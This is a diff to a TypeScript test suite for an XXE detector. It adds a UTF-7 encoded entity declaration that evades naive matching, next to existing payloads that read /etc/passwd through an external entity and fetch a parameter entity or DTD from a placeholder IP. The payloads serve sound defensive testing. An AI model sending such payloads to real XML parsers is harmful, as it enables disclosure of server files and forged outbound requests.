@@ -4,6 +4,10 @@ import { detectXxe } from './detect-xxe.ts';
 
 describe('detectXxe', () => {
   it.each([
+    [
+      'entity-declaration',
+      '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY x',
+    ],
     ['entity-declaration', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
     ['entity-declaration', '<!ENTITY % p SYSTEM "http://192.0.2.1">'],
     ['external-doctype', '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://192.0.2.1/a.dtd">'],
